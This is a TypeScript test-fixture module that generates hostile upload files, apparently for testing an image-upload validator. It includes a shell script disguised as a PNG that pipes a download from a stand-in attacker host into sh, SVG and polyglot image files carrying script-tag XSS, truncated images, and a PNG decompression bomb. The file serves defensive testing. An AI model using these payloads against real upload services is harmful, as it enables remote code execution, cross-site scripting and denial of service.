import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** The marker every payload carries, searched for in what gets stored. */
export const PAYLOAD_MARKER = 'HOSTILE_PAYLOAD_7f3a';
const SCRIPT = `<script>alert('${PAYLOAD_MARKER}')</script>`;

export function scriptRenamedPng(): Buffer {
  return Buffer.from(`#!/bin/sh\n# ${PAYLOAD_MARKER}\ncurl http://attacker.invalid/x | sh\n`);
}

export function svgWithScript(): Buffer {
  return Buffer.from(
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">${SCRIPT}</svg>`,
  );
}

export function realPng(width = 64, height = 64): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 30, g: 140, b: 90 } } })
    .png()
    .toBuffer();
}

export function realJpeg(width = 64, height = 64): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 200, g: 60, b: 20 } } })
    .jpeg()
    .toBuffer();
}

/** A valid PNG followed by an HTML page and a ZIP archive (a file that is an image, a page and an archive at once). */
export async function pngZipHtmlPolyglot(): Promise<Buffer> {
  const zipLocalHeader = Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0, 0, 0]);
  return Buffer.concat([
    await realPng(),
    Buffer.from(`<html><body>${SCRIPT}</body></html>`),
    zipLocalHeader,
    Buffer.from(PAYLOAD_MARKER),
  ]);
}

/** A valid JPEG whose comment segment (COM, 0xFFFE) right after SOI holds a script. */
export async function jpegWithScriptComment(): Promise<Buffer> {
  const jpeg = await realJpeg();
  const comment = Buffer.from(`*/=1;${SCRIPT}/*`);
  const segment = Buffer.concat([Buffer.from([0xff, 0xfe]), u16(comment.length + 2), comment]);
  return Buffer.concat([jpeg.subarray(0, 2), segment, jpeg.subarray(2)]);
}

/** A GIF header and logical screen followed straight by HTML and JavaScript (GIF/JS polyglot, no image data). */
export function gifJavascriptPolyglot(): Buffer {
  return Buffer.concat([Buffer.from('GIF89a/*'), Buffer.from([0x0a, 0x00, 0x00]), Buffer.from(`*/=1;${SCRIPT}`)]);
}

export async function truncatedPng(): Promise<Buffer> {
  const png = await realPng(400, 400);
  return png.subarray(0, Math.floor(png.length / 2));
}

export async function truncatedJpeg(): Promise<Buffer> {
  const noise = Buffer.from(Array.from({ length: 400 * 400 * 3 }, (_, index) => (index * 7919) % 251));
  const jpeg = await sharp(noise, { raw: { width: 400, height: 400, channels: 3 } })
    .jpeg()
    .toBuffer();
  return jpeg.subarray(0, Math.floor(jpeg.length / 3));
}

/**
 * A decompression bomb: a PNG of a few hundred bytes declaring 50,000 x 50,000 pixels (2.5 gigapixels, 7.5 GB
 * decoded as RGB), its IDAT a zlib stream of zero rows.
 */
export function pngDecompressionBomb(side = 50_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header[8] = 8; // bit depth
  header[9] = 2; // RGB
  const rows = deflateSync(Buffer.alloc((side * 3 + 1) * 64), { level: 9 });
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function chunk(type: string, data: Buffer): Buffer {
  const typeAndData = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, crc]);
}

function u16(value: number): Buffer {
  const buffer = Buffer.alloc(2);
  buffer.writeUInt16BE(value);
  return buffer;
}
